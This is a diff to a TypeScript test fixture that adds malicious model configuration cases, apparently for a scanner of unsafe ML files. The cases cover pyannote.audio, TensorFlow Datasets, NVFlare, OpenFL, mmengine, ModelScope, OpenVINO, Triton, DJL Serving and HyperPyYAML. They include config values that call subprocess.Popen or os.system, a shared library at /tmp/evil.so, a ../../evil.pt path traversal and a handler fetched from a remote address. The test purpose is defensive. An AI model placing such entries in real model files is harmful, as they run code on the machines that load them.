@@ -299,5 +299,72 @@ const huggingFace = fileCases(
   ['code that runs on import', 'modeling_x.py', utf8('import os\nos.system("echo hi")\n'), 'trust_remote_code']
 );
 
+/** Names that a program takes from its settings, imports and calls. */
+const programs = fileCases(
+  'settings of programs',
+  [
+    'what prepares the input of pyannote.audio',
+    'config.yaml',
+    utf8(
+      'pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\npreprocessors:\n  audio:\n    name: subprocess.Popen\n    params: {args: echo hi, shell: true}\n'
+    ),
+    'pyannote.audio, Pipeline.from_pretrained'
+  ],
+  [
+    'a feature of a data set',
+    'features.json',
+    json({ pythonClassName: 'subprocess.Popen', content: { args: ['echo', 'hi'] } }),
+    'TensorFlow Datasets, FeatureConnector.from_json'
+  ],
+  [
+    'an executor of NVFlare',
+    'config_fed_client.json',
+    json({ format_version: 2, executors: [{ executor: { path: 'subprocess.Popen', args: { args: 'echo hi' } } }] }),
+    'NVFlare, component builder'
+  ],
+  [
+    'a part of a plan of OpenFL',
+    'plan.yaml',
+    utf8('aggregator:\n  template: os.system\n  settings:\n    command: echo hi\n'),
+    'OpenFL, Plan.build'
+  ],
+  [
+    'a class where a registry takes full names',
+    'model.json',
+    json({ model: { type: 'subprocess.Popen', args: 'echo hi' } }),
+    'mmengine, Registry.get'
+  ],
+  [
+    'a plug-in of ModelScope',
+    'configuration.json',
+    json({ framework: 'pytorch', task: 'text-classification', plugins: ['evil-plugin'] }),
+    'ModelScope, register_plugins_repo'
+  ],
+  [
+    'a library of OpenVINO Model Server',
+    'config.json',
+    json({ model_config_list: [], custom_node_library_config_list: [{ name: 'n', base_path: '/tmp/evil.so' }] }),
+    'OpenVINO Model Server, custom nodes'
+  ],
+  [
+    'weights of a model of Triton above its folder',
+    'config.pbtxt',
+    utf8('name: "m"\nbackend: "pytorch"\ndefault_model_filename: "../../evil.pt"\n'),
+    'Triton model configuration, CWE-22'
+  ],
+  [
+    'a handler of DJL from an address',
+    'serving.properties',
+    utf8('engine=Python\noption.entryPoint=http://192.0.2.1/a.py\n'),
+    'DJL Serving, entryPoint'
+  ],
+  [
+    'HyperPyYAML under the name of weights',
+    'hyperparams',
+    utf8('model: !apply:os.system [echo hi]\n'),
+    'HyperPyYAML, SpeechBrain'
+  ]
+);
+
 /** Tricks of configurations, of folders from the Hub, and of formats that are seldom met. */
-export const CONFIG_FILES: readonly FileCase[] = [...others, ...huggingFace];
+export const CONFIG_FILES: readonly FileCase[] = [...others, ...huggingFace, ...programs];
